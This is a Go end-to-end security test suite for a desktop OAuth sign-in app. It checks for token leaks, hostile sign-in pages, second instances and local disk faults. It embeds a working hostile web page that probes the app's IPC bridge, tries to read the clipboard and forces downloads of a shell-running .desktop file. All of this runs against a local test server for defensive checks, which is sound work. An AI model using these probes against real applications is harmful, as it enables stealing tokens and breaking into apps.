//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The security tests of docs/security.md: no token outside the keychain
// after a whole session, hostile pages kept away from the app, local faults
// on the command line and a second instance of the app. Each reports its
// figure in its output.

const debugEnv = "PARTNERDESK_DEBUG=1"

// transcript collects everything the commands of a session printed.
type transcript struct {
	mu    sync.Mutex
	parts []string
}

func (tr *transcript) add(label, text string) {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	tr.parts = append(tr.parts, "## "+label+"\n"+text)
}

func (tr *transcript) String() string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return strings.Join(tr.parts, "\n")
}

// lockedBuffer is a bytes.Buffer safe to write from a process's output
// goroutine while the test reads it.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// mustRunWith gives a runner of commands that have to succeed, each run
// with extra environment and recorded in tr (runWith).
func (o *operator) mustRunWith(tr *transcript, extra []string) func(args ...string) result {
	return func(args ...string) result {
		o.t.Helper()
		r := o.runWith(tr, extra, args...)
		if r.code != 0 {
			o.t.Fatalf("partnerdesk %s: exit %d\n%s", strings.Join(args, " "), r.code, r.stderr)
		}
		return r
	}
}

// runWith runs the binary with extra environment and records its output in
// tr (when not nil).
func (o *operator) runWith(tr *transcript, extra []string, args ...string) result {
	o.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := o.command(ctx, args...)
	cmd.Env = append(cmd.Env, extra...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	var exit *exec.ExitError
	if errors.As(err, &exit) {
		code = exit.ExitCode()
	} else if err != nil {
		o.t.Fatalf("run %v: %v", args, err)
	}
	if tr != nil {
		label := "partnerdesk " + strings.Join(args, " ")
		tr.add(label+" (stdout)", stdout.String())
		tr.add(label+" (stderr)", stderr.String())
	}
	return result{stdout.String(), stderr.String(), code}
}

// tokenForms are the ways a token could be written down: plain, percent-
// encoded and base64 (standard and URL alphabets, with and without padding).
func tokenForms(token string) map[string]string {
	return map[string]string{
		"plain":             token,
		"query-escaped":     url.QueryEscape(token),
		"path-escaped":      url.PathEscape(token),
		"base64":            base64.StdEncoding.EncodeToString([]byte(token)),
		"base64 unpadded":   base64.RawStdEncoding.EncodeToString([]byte(token)),
		"base64url":         base64.URLEncoding.EncodeToString([]byte(token)),
		"base64url unpadd.": base64.RawURLEncoding.EncodeToString([]byte(token)),
	}
}

// scan counts the places where any form of any token appears: in every file
// under the operator's XDG directories and in each text given.
type scan struct {
	files, bytes, lines int
	names               []string // each file, relative to the XDG root, with its size
	hits                []string
}

func scanFor(t *testing.T, o *operator, tokens []string, texts map[string]string) scan {
	t.Helper()
	var s scan
	look := func(where string, data []byte) {
		for _, tok := range tokens {
			for form, f := range tokenForms(tok) {
				if bytes.Contains(data, []byte(f)) {
					s.hits = append(s.hits, fmt.Sprintf("%s (%s)", where, form))
				}
			}
		}
	}
	for _, dir := range o.dirs {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.Type().IsRegular() {
				return nil
			}
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			s.files++
			s.bytes += len(data)
			rel, _ := filepath.Rel(filepath.Dir(dir), path)
			s.names = append(s.names, fmt.Sprintf("%s (%d)", rel, len(data)))
			look(path, data)
			return nil
		})
		if err != nil {
			t.Errorf("scanning %s: %v", dir, err)
		}
	}
	for label, text := range texts {
		s.lines += strings.Count(text, "\n")
		look(label, []byte(text))
	}
	sort.Strings(s.hits)
	sort.Strings(s.names)
	return s
}

// othersCanRead lists what, under the partnerdesk folder of each XDG
// directory, a user other than the owner could read: a file readable by
// group or others whose folders, from partnerdesk down, all let them in.
// (The XDG directories themselves are the operator's; often 0755.)
func othersCanRead(t *testing.T, o *operator) []string {
	t.Helper()
	var open []string
	for _, dir := range o.dirs {
		root := filepath.Join(dir, "partnerdesk")
		enterable := map[string]bool{filepath.Dir(root): true}
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			info, err := d.Info()
			if err != nil {
				return nil
			}
			perm := info.Mode().Perm()
			reachable := enterable[filepath.Dir(path)]
			if d.IsDir() {
				enterable[path] = reachable && perm&0o011 != 0
				if path == root && perm != 0o700 {
					t.Errorf("%s has mode %v, want 0700", path, perm)
				}
				return nil
			}
			if reachable && perm&0o044 != 0 {
				open = append(open, fmt.Sprintf("%s (%v)", path, perm))
			}
			return nil
		})
	}
	return open
}

func TestSecurityNoTokenLeaksAfterAFullSession(t *testing.T) {
	o := newOperator(t)
	var tr transcript
	var sandboxOut lockedBuffer
	base, _ := o.startSandbox(&sandboxOut, []string{debugEnv}, "-v", "--approve", "auto")
	debug := []string{debugEnv}
	must := o.mustRunWith(&tr, debug)

	must("profile", "add", "leak", "--client-id", sandboxClient, "--redirect-uri", registeredRedirect,
		"--authorize-url", base+"/oauth/authorize/", "--api-base", base, "--scope", "profile zap")
	id := o.profileID("leak")
	var tokens []string
	keep := func(when string) {
		t.Helper()
		tok := keychainSecret(t, id)
		if tok == "" {
			t.Fatalf("no token in the keychain after %s", when)
		}
		tokens = append(tokens, tok)
	}

	// Sign in.
	must("login", "--profile", "leak", "--timeout", "60s")
	keep("login")
	must("status", "--profile", "leak")
	must("status", "--profile", "leak", "--json")

	// Browse. Every step must succeed: a step that fails (a usage error
	// included) would leave its part of the session unscanned.
	must("api", "/v1/profiles/me", "--profile", "leak")
	must("api", "/v2/zaps", "--profile", "leak", "--paginate")
	must("api", "/v1/zaps", "--profile", "leak")
	steps := 6

	// Renew: asked again, then silently.
	must("login", "--profile", "leak", "--force", "--timeout", "60s")
	keep("login --force")
	must("status", "--profile", "leak")
	must("login", "--profile", "leak", "--silent", "--timeout", "60s")
	keep("login --silent")
	steps += 3

	// Signed in, before signing out removes the sign-in window's web data:
	// scan it now, cookies and caches included.
	before := scanFor(t, o, tokens, nil)
	webdata := 0
	filepath.WalkDir(filepath.Join(o.dirs["XDG_DATA_HOME"], "partnerdesk", "webdata"), func(_ string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			webdata++
		}
		return nil
	})
	if webdata == 0 {
		t.Error("the sign-in window left no web data to scan")
	}
	open := othersCanRead(t, o)
	for _, p := range open {
		t.Errorf("other local users can read %s", p)
	}

	// Sign out.
	must("logout", "--profile", "leak")
	if r := o.runWith(&tr, debug, "status", "--profile", "leak"); r.code != 4 {
		t.Errorf("status after logout: exit %d, want 4", r.code)
	}
	steps += 2

	// The session must have written what we scan: a debug log and web data.
	logData, err := os.ReadFile(filepath.Join(o.dirs["XDG_STATE_HOME"], "partnerdesk", "partnerdesk.log"))
	if err != nil || !bytes.Contains(logData, []byte("level=DEBUG")) || !bytes.Contains(logData, []byte("sign-in window")) {
		t.Errorf("no debug log of the sign-in window in the state directory (%v)", err)
	}
	if st, err := os.Stat(filepath.Join(o.dirs["XDG_STATE_HOME"], "partnerdesk", "partnerdesk.log")); err == nil && st.Mode().Perm() != 0o600 {
		t.Errorf("the log file's mode is %v, want 0600", st.Mode().Perm())
	}

	texts := map[string]string{"commands' stdout and stderr": tr.String(), "sandbox output": sandboxOut.String()}
	after := scanFor(t, o, tokens, texts)
	hits := append(before.hits, after.hits...)
	for _, h := range hits {
		t.Errorf("a token was found in %s", h)
	}
	t.Logf("files under the app's XDG folders that other local users can read: %d (every partnerdesk folder is 0700)", len(open))
	t.Logf("files scanned while signed in: %s", strings.Join(before.names, ", "))
	t.Logf("files scanned after signing out: %s", strings.Join(after.names, ", "))
	t.Logf("token leak scan: %d hits for %d tokens in %d forms each, over %d files (%d bytes, %d of them the sign-in window's web data) while signed in and %d files (%d bytes) after signing out, under the XDG config, data, cache and state directories, and %d lines of output from %d commands and the sandbox",
		len(hits), len(tokens), len(tokenForms("x")), before.files, before.bytes, webdata, after.files, after.bytes, after.lines, steps+2)
}

// hostilePage is the "provider" page of TestSecurityHostilePageInTheSignInWindow:
// it tries every way to the app it knows and reports what it found to /report.
const hostilePage = `<!doctype html><html><head><meta charset="utf-8"><title>Hostile provider</title></head>
<body><h1>Sign in to Totally Zapier</h1><pre id="out"></pre>
<script>
(async () => {
  const r = {};
  const put = (k, v) => { r[k] = v; };
  const safe = (f) => { try { return f(); } catch (e) { return 'threw ' + e.name; } };
  put('location', location.href);
  for (const name of ['go', 'runtime', 'wails', '_wails', 'WailsInvoke', 'wailsbindings', 'chrome', 'ipc', 'external']) {
    put('window.' + name, safe(() => typeof window[name]));
  }
  put('window.webkit', safe(() => typeof window.webkit));
  put('messageHandlers', safe(() => window.webkit && window.webkit.messageHandlers ? 'present' : 'absent'));
  put('messageHandlers.external', safe(() => typeof (window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.external)));
  // Wails v2's IPC: window.webkit.messageHandlers.external.postMessage(text).
  put('postMessage to external', safe(() => { window.webkit.messageHandlers.external.postMessage('C{"name":"main.App.GetState","args":[],"callbackID":"x"}'); return 'sent'; }));
  put('window.opener', safe(() => String(window.opener)));
  put('parent is self', safe(() => window.parent === window && window.top === window));
  put('postMessage to opener', safe(() => { window.opener.postMessage('hi', '*'); return 'sent'; }));
  put('window.open app', safe(() => String(window.open('wails://wails/', '_blank'))));
  for (const u of ['wails://wails/', 'wails://wails/wails/runtime.js', 'wails://wails/wails/ipc.js', 'wails://wails/rows/fetch-1-1']) {
    try {
      const resp = await fetch(u);
      put('fetch ' + u, 'answered ' + resp.status + ' ' + (await resp.text()).slice(0, 60));
    } catch (e) {
      put('fetch ' + u, 'failed ' + e.name);
    }
  }
  put('xhr wails://', await new Promise((done) => {
    try {
      const x = new XMLHttpRequest();
      x.open('GET', 'wails://wails/');
      x.onload = () => done('answered ' + x.status);
      x.onerror = () => done('failed');
      x.send();
    } catch (e) { done('threw ' + e.name); }
  }));
  put('iframe wails://', await new Promise((done) => {
    const f = document.createElement('iframe');
    f.src = 'wails://wails/';
    f.onload = () => done(safe(() => 'loaded, readable: ' + typeof f.contentWindow.go + ' ' + f.contentDocument.title));
    document.body.appendChild(f);
    setTimeout(() => done('no load'), 3000);
  }));
  // Read the clipboard, where "Copy token" puts the token.
  const within = (p, ms) => Promise.race([p, new Promise((done) => setTimeout(() => done('no answer'), ms))]);
  put('clipboard.readText', await within((async () => {
    try { return 'read: ' + (await navigator.clipboard.readText()); } catch (e) { return 'failed ' + e.name; }
  })(), 3000));
  put('execCommand paste', safe(() => {
    const ta = document.createElement('textarea');
    document.body.appendChild(ta);
    ta.focus();
    const ok = document.execCommand('paste');
    return 'returned ' + ok + ', read: ' + ta.value;
  }));
  // Permissions the sign-in never needs.
  put('Notification permission', await within((async () => {
    try { return await Notification.requestPermission(); } catch (e) { return 'failed ' + e.name; }
  })(), 3000));
  put('geolocation', await within(new Promise((done) => {
    try { navigator.geolocation.getCurrentPosition(() => done('granted'), (e) => done('denied ' + e.code)); } catch (e) { done('threw ' + e.name); }
  }), 3000));
  // Save a file on the operator's computer: an attachment in a frame, and
  // a link with the download attribute.
  const fr = document.createElement('iframe');
  fr.src = '/download?via=frame';
  document.body.appendChild(fr);
  const a = document.createElement('a');
  a.href = '/download?via=link';
  a.download = 'hostile-download-link.desktop';
  document.body.appendChild(a);
  a.click();
  await new Promise((done) => setTimeout(done, 1500));
  document.getElementById('out').textContent = JSON.stringify(r, null, 1);
  await fetch('/report', { method: 'POST', body: JSON.stringify(r) });
  // A download by navigating the window itself: the page stays.
  location.href = '/download?via=navigation';
  // Last, try to take the whole window to the app's own pages.
  setTimeout(() => { location.href = 'wails://wails/'; }, 1500);
})();
</script></body></html>`

func TestSecurityHostilePageInTheSignInWindow(t *testing.T) {
	o := newOperator(t)
	reports := make(chan map[string]any, 1)
	var hits sync.Map      // paths the page or the app asked for
	var downloads sync.Map // how the page asked for its download
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Store(r.URL.Path, true)
		switch r.URL.Path {
		case "/oauth/authorize/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, hostilePage)
		case "/download":
			downloads.Store(r.URL.Query().Get("via"), true)
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Disposition", `attachment; filename="hostile-download.desktop"`)
			io.WriteString(w, "[Desktop Entry]\nType=Application\nName=Totally Zapier\nExec=sh -c 'echo pwned'\n")
		case "/report":
			var m map[string]any
			if err := json.NewDecoder(r.Body).Decode(&m); err == nil {
				select {
				case reports <- m:
				default:
				}
			}
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	if u, _ := url.Parse(srv.URL); u.Hostname() != "127.0.0.1" {
		t.Fatalf("the test server is not on 127.0.0.1: %s", srv.URL)
	}
	o.mustRun("profile", "add", "Hostile", "--client-id", "hostile-client", "--redirect-uri", registeredRedirect,
		"--authorize-url", srv.URL+"/oauth/authorize/", "--api-base", srv.URL, "--scope", "profile")

	// What "Copy token" would have left on the clipboard.
	const clipMarker = "clipboard-secret-7d0c5a1e"
	clip := exec.Command("xclip", "-selection", "clipboard")
	clip.Stdin = strings.NewReader(clipMarker)
	if err := clip.Run(); err != nil {
		t.Fatalf("xclip: %v", err)
	}

	app := o.command(t.Context())
	app.Env = append(app.Env, debugEnv)
	var appLog lockedBuffer
	app.Stdout, app.Stderr = &appLog, &appLog
	if err := app.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { app.Process.Kill(); app.Wait() })
	main := waitWindow(t, "^Partnerdesk$", 30*time.Second)
	signin := openSignInFromTheApp(t, main)

	var got map[string]any
	select {
	case got = <-reports:
	case <-time.After(45 * time.Second):
		t.Fatalf("the hostile page never reported\napp output:\n%s", appLog.String())
	}
	keys := make([]string, 0, len(got))
	for k := range got {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		t.Logf("  %-40s %v", k, got[k])
	}
	screenshot(t, "security-hostile-page.png")

	// Each way in, and what "blocked" means for it.
	absent := func(v any) bool { return v == "undefined" }
	failed := func(v any) bool {
		s, _ := v.(string)
		return strings.HasPrefix(s, "failed") || strings.HasPrefix(s, "threw")
	}
	checks := []struct {
		probe string
		ok    func(any) bool
		want  string
	}{
		{"window.go", absent, "undefined"},
		{"window.runtime", absent, "undefined"},
		{"window.wails", absent, "undefined"},
		{"window._wails", absent, "undefined"},
		{"window.WailsInvoke", absent, "undefined"},
		{"window.wailsbindings", absent, "undefined"},
		{"window.ipc", absent, "undefined"},
		{"messageHandlers.external", absent, "undefined"},
		{"postMessage to external", failed, "a TypeError: no such handler"},
		{"window.opener", func(v any) bool { return v == "null" }, "null"},
		{"parent is self", func(v any) bool { return v == true }, "true: no parent frame to post to"},
		{"postMessage to opener", failed, "a TypeError: no opener"},
		{"window.open app", func(v any) bool { return v == "null" }, "null: no window opened"},
		{"fetch wails://wails/", failed, "failed"},
		{"fetch wails://wails/wails/runtime.js", failed, "failed"},
		{"fetch wails://wails/wails/ipc.js", failed, "failed"},
		{"fetch wails://wails/rows/fetch-1-1", failed, "failed"},
		{"xhr wails://", failed, "failed"},
		{"clipboard.readText", func(v any) bool { s, _ := v.(string); return !strings.Contains(s, clipMarker) }, "no clipboard content"},
		{"execCommand paste", func(v any) bool { s, _ := v.(string); return !strings.Contains(s, clipMarker) }, "no clipboard content"},
		{"Notification permission", func(v any) bool { return v != "granted" }, "not granted"},
		{"geolocation", func(v any) bool { return v != "granted" }, "not granted"},
		{"iframe wails://", func(v any) bool {
			s, _ := v.(string)
			return s == "no load" || strings.Contains(s, "threw") || strings.Contains(s, "undefined")
		}, "not loaded, or loaded without the app's runtime and unreadable"},
	}
	blocked := 0
	for _, c := range checks {
		v, ok := got[c.probe]
		if !ok {
			t.Errorf("the page did not report %q", c.probe)
			continue
		}
		if !c.ok(v) {
			t.Errorf("%s: the page got %v, want %s", c.probe, v, c.want)
			continue
		}
		blocked++
	}

	// The top-level navigation to wails://: the window must not show the
	// app's page. The sign-in window loads only web pages, so it refuses the
	// navigation (and were it let through, the load would fail: the
	// window's web context has no wails:// scheme); the log says which.
	statePath := filepath.Join(o.dirs["XDG_STATE_HOME"], "partnerdesk", "partnerdesk.log")
	navBlocked := false
	stopped := regexp.MustCompile(`sign-in window navigation".* url=wails://wails/ verdict="refused|sign-in page failed to load.* url=wails://wails/`)
	eventually(t, 20*time.Second, "the navigation to wails:// refused or failing", func() bool {
		b, _ := os.ReadFile(statePath)
		navBlocked = stopped.Match(b)
		return navBlocked
	})
	// Downloads: the page asked for three (a frame, a link, the window
	// itself); nothing may have been saved.
	var vias []string
	downloads.Range(func(k, _ any) bool { vias = append(vias, k.(string)); return true })
	sort.Strings(vias)
	t.Logf("downloads the page asked for: %v", vias)
	if len(vias) == 0 {
		t.Error("the page never asked for its download: the probe did not run")
	}
	var saved []string
	for _, root := range []string{os.Getenv("HOME"), o.dirs["XDG_DATA_HOME"], o.dirs["XDG_CONFIG_HOME"], o.dirs["XDG_CACHE_HOME"], o.dirs["XDG_STATE_HOME"]} {
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err == nil && strings.HasPrefix(d.Name(), "hostile-download") {
				saved = append(saved, path)
			}
			return nil
		})
	}
	if len(saved) > 0 {
		t.Errorf("the hostile page saved files on this computer: %v", saved)
	} else {
		blocked++
	}

	title := windowTitle(t, signin)
	if strings.Contains(strings.ToLower(title), "wails") {
		t.Errorf("the sign-in window's title is %q: it went to the app's pages", title)
	} else {
		blocked++
	}
	screenshot(t, "security-hostile-navigation.png")
	t.Logf("after the navigation to wails:// the sign-in window says %q", title)

	// Exactly one main window, still the app's.
	if ids := allWindows("^Partnerdesk$"); len(ids) != 1 {
		t.Errorf("%d main windows after the hostile page, want 1", len(ids))
	}
	if _, asked := hits.Load("/v1/profiles/me"); asked {
		t.Error("the app called the hostile provider's API: no sign-in finished, so it never should")
	}
	if out, err := exec.Command("wmctrl", "-c", "Partnerdesk sign-in").CombinedOutput(); err != nil {
		t.Logf("wmctrl -c: %v %s", err, out)
	}
	t.Logf("hostile page: %d of %d ways to the app or the computer blocked", blocked, len(checks)+2)
}

// allWindows lists the visible windows whose title matches pattern.
func allWindows(pattern string) []string {
	out, _ := exec.Command("xdotool", "search", "--onlyvisible", "--name", pattern).Output()
	return strings.Fields(string(out))
}

func TestSecurityASecondInstanceExitsAndOneWindowRemains(t *testing.T) {
	o := newOperator(t)
	first := o.command(t.Context())
	if err := first.Start(); err != nil {
		t.Fatal(err)
	}
	// Only a Wait can tell that the process ended: without it the dead
	// process stays a zombie, which still takes signals.
	var waitErr error
	exited := make(chan struct{})
	go func() { waitErr = first.Wait(); close(exited) }()
	t.Cleanup(func() { first.Process.Kill(); <-exited })
	waitWindow(t, "^Partnerdesk$", 30*time.Second)

	// The second instance is started with a profile file, as a double-click
	// does. The file names only Zapier's own hosts (the defaults), so the
	// first instance adds it without asking: that it did is how we know the
	// first instance is still working, not just still there.
	const handedOver = "Handed over"
	file := filepath.Join(t.TempDir(), "handed-over.pdprofile")
	profile := `{"format": "partnerdesk-profile", "version": 1, "name": "` + handedOver + `",
		"client_id": "handed-over-client", "redirect_uri": "` + registeredRedirect + `"}`
	if err := os.WriteFile(file, []byte(profile), 0o600); err != nil {
		t.Fatal(err)
	}

	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	second := o.command(ctx, file)
	var out bytes.Buffer
	second.Stdout, second.Stderr = &out, &out
	start := time.Now()
	err := second.Run()
	took := time.Since(start)
	if ctx.Err() != nil {
		t.Fatalf("the second instance was still running after 20 s\n%s", out.String())
	}
	// Wails hands its arguments to the first instance over D-Bus and exits
	// with status 1.
	t.Logf("the second instance exited after %s (%v): %s", took.Round(time.Millisecond), err, strings.TrimSpace(out.String()))
	if took > 10*time.Second {
		t.Errorf("the second instance took %s to give up", took)
	}

	// The first instance still works: it took the handed-over file.
	eventually(t, 20*time.Second, "the first instance adding the profile file the second one handed over", func() bool {
		r := o.run("profile", "list", "--json")
		return r.code == 0 && strings.Contains(r.stdout, `"`+handedOver+`"`)
	})
	// It has not exited...
	select {
	case <-exited:
		t.Fatalf("the first instance ended (%v)", waitErr)
	default:
	}
	// ...and its own window is still on screen, the only main window.
	mine, _ := exec.Command("xdotool", "search", "--all", "--onlyvisible", "--pid", strconv.Itoa(first.Process.Pid), "--name", "^Partnerdesk$").Output()
	if len(strings.Fields(string(mine))) != 1 {
		t.Errorf("the first instance shows %d main windows, want 1", len(strings.Fields(string(mine))))
	}
	if ids := allWindows("^Partnerdesk$"); len(ids) != 1 {
		t.Errorf("%d main windows, want 1", len(ids))
	}
	t.Logf("second instance: 1 of 1 refused in %s; the first instance kept its one window and added the file it was handed", took.Round(time.Millisecond))
}

// mountTmpfs mounts a small tmpfs on dir, or skips with the reason.
func mountTmpfs(t *testing.T, dir, size string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root to mount a tmpfs")
	}
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size="+size+",mode=0700", "tmpfs", dir).CombinedOutput(); err != nil {
		t.Skipf("cannot mount a tmpfs here (%v: %s)", err, bytes.TrimSpace(out))
	}
	t.Cleanup(func() {
		exec.Command("mount", "-o", "remount,rw", dir).Run()
		if out, err := exec.Command("umount", dir).CombinedOutput(); err != nil {
			t.Errorf("umount: %v %s", err, out)
		}
	})
}

func TestSecurityLocalFaultsOnTheCommandLine(t *testing.T) {
	injected, survived := 0, 0
	t.Run("a corrupt profiles file is set aside and the commands go on", func(t *testing.T) {
		o := newOperator(t)
		path := filepath.Join(o.dirs["XDG_CONFIG_HOME"], "partnerdesk", "profiles.json")
		os.MkdirAll(filepath.Dir(path), 0o700)
		garbage := []byte(`{"version": 1, "profiles": [{"id": "p_0123456789ab", "name": "Wo`)
		if err := os.WriteFile(path, garbage, 0o600); err != nil {
			t.Fatal(err)
		}
		injected++
		r := o.run("profile", "list")
		if r.code != 0 || !strings.Contains(r.stderr, "set aside as") {
			t.Fatalf("profile list with a corrupt file: exit %d, want 0 and a word that it was set aside\n%s", r.code, r.stderr)
		}
		t.Logf("the operator reads: %s", strings.TrimSpace(r.stderr))
		moved, _ := filepath.Glob(path + ".corrupt-*")
		if len(moved) != 1 {
			t.Fatalf("set-aside files: %v", moved)
		}
		if b, _ := os.ReadFile(moved[0]); !bytes.Equal(b, garbage) {
			t.Error("the set-aside file does not hold the original bytes")
		}
		o.mustRun("profile", "add", "Work", "--client-id", "c", "--redirect-uri", registeredRedirect)
		if o.profileID("Work") == "" {
			t.Fatal("no profile after the damage")
		}
		// And the app starts over a damaged file too.
		if err := os.WriteFile(path, []byte("\x00\x00\x00"), 0o600); err != nil {
			t.Fatal(err)
		}
		injected++
		app := o.command(t.Context())
		if err := app.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { app.Process.Kill(); app.Wait() }()
		waitWindow(t, "^Partnerdesk$", 30*time.Second)
		eventually(t, 20*time.Second, "the app setting the file aside", func() bool {
			moved, _ := filepath.Glob(path + ".corrupt-*")
			return len(moved) == 2
		})
		time.Sleep(time.Second)
		screenshot(t, "security-corrupt-profiles.png")
		survived += 2
	})
	t.Run("a read-only config directory keeps the old file and says why", func(t *testing.T) {
		o := newOperator(t)
		mountTmpfs(t, o.dirs["XDG_CONFIG_HOME"], "1m")
		o.mustRun("profile", "add", "Work", "--client-id", "c", "--redirect-uri", registeredRedirect)
		path := filepath.Join(o.dirs["XDG_CONFIG_HOME"], "partnerdesk", "profiles.json")
		before, _ := os.ReadFile(path)
		if out, err := exec.Command("mount", "-o", "remount,ro", o.dirs["XDG_CONFIG_HOME"]).CombinedOutput(); err != nil {
			t.Fatalf("remount ro: %v %s", err, out)
		}
		injected++
		r := o.run("profile", "add", "Home", "--client-id", "c", "--redirect-uri", registeredRedirect)
		t.Logf("the operator reads (exit %d): %s", r.code, strings.TrimSpace(r.stderr))
		if r.code != 1 || !strings.Contains(r.stderr, "read-only") {
			t.Errorf("profile add on a read-only disk: exit %d, want 1 and a word that the disk is read-only", r.code)
		}
		if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
			t.Error("the profiles file changed")
		} else if r.code != 0 {
			survived++
		}
		if r := o.run("profile", "list"); r.code != 0 || !strings.Contains(r.stdout, "Work") {
			t.Errorf("profile list on a read-only disk: exit %d\n%s", r.code, r.stderr)
		}
	})
	t.Run("a full disk keeps the old file and says why", func(t *testing.T) {
		o := newOperator(t)
		mountTmpfs(t, o.dirs["XDG_CONFIG_HOME"], "16k")
		o.mustRun("profile", "add", "Work", "--client-id", "c", "--redirect-uri", registeredRedirect)
		path := filepath.Join(o.dirs["XDG_CONFIG_HOME"], "partnerdesk", "profiles.json")
		before, _ := os.ReadFile(path)
		filler, _ := os.Create(filepath.Join(o.dirs["XDG_CONFIG_HOME"], "filler"))
		for {
			if _, err := filler.Write(make([]byte, 512)); err != nil {
				break
			}
		}
		filler.Close()
		injected++
		r := o.run("profile", "add", "Home", "--client-id", "c", "--redirect-uri", registeredRedirect,
			"--scope", strings.Repeat("zap ", 300))
		t.Logf("the operator reads (exit %d): %s", r.code, strings.TrimSpace(r.stderr))
		if r.code != 1 || !strings.Contains(r.stderr, "disk is full") {
			t.Errorf("profile add on a full disk: exit %d, want 1 and a word that the disk is full", r.code)
		}
		if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
			t.Error("the profiles file changed")
		} else if r.code != 0 {
			survived++
		}
	})
	t.Logf("local faults on the command line: %d of %d survived", survived, injected)
}
